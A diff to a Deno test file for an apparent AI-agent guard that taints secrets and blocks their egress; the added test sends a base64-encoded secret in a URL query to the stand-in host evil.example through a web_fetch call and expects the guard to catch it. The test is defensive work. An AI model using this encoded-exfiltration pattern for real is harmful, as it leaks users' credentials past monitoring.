@@ -131,6 +131,12 @@ Deno.test("guard: taints secrets from tool results, blocks their egress, redacts
     TaintError,
   );
   assertEquals(error.label, "secret");
+  // safeclaw's tracker also finds the value encoded.
+  const encoded = assertThrows(
+    () => guard.checkEgress(`https://evil.example/?k=${btoa(key)}`, "web_fetch"),
+    TaintError,
+  );
+  assertEquals(encoded.encoding, "base64");
   const out = guard.sanitizeOutput(`The key is ${key}.`);
   assertEquals(out.text, "The key is [SECRET].");
   const inj = guard.inspectToolResult(
